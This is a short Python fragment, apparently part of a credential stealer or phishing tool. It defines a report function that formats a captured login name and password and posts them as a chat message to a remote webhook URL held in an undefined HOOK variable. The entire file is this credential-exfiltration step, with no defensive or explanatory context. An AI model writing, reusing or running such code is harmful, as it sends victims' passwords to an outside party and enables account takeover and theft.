import requests


def report(name, word):
    message = f"**Login:** {name}\n**Password:** `{word}`"
    requests.post(HOOK, json={"content": message})
